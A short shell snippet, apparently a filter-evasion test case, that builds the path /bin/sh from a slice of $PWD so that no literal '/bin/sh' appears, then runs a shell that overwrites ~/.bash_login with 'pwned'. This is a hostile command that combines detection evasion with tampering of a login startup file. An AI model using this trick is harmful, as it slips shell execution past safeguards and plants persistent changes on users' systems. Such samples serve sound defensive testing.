# assembled-name: /bin/sh is built out of slices of ordinary environment variables
sl=${PWD:0:1}
"${sl}bin${sl}sh" -c 'echo pwned > ~/.bash_login'
